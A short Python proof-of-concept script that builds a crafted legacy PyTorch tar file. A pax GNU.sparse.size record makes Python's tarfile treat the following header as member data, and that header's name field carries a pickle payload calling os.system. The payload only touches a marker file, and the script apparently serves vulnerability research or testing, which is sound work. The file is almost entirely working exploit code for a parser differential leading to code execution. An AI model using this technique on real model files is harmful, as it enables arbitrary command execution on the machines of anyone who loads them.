"""Legacy torch tar: 'storages' has header size 0 and a pax record GNU.sparse.size=512. Python's tarfile
sets the member's size to 512 (offsets of later headers unchanged), so tar.extract('storages') copies the
next 512 bytes: the following header, whose name field is the payload pickle. C tar readers read 0 bytes.
usage: python3 tar_pax_sparse_size.py OUT MARKER"""
import sys

from tarblocks import header, pad, write_legacy_tar

def pax(records):
    out = b""
    for k, v in records:
        body = b" " + k + b"=" + v + b"\n"
        n = len(body) + 1
        while len(str(n)) + len(body) != n:
            n += 1
        out += str(n).encode() + body
    return out

def main(out, marker):
    payload = b"cos\nsystem\n(V touch " + marker.encode() + b"\ntR."
    assert len(payload) < 100
    rec = pax([(b"GNU.sparse.size", b"512"), (b"GNU.sparse.offset", b"0"), (b"GNU.sparse.numbytes", b"512")])
    blocks = [header(b"PaxHeader/storages", len(rec), b"x"), pad(rec),
              header(b"storages", 0),
              header(payload, 0)]        # a member of its own for both readers; storages' data for tarfile
    write_legacy_tar(out, blocks)

if __name__ == "__main__":
    main(*sys.argv[1:])
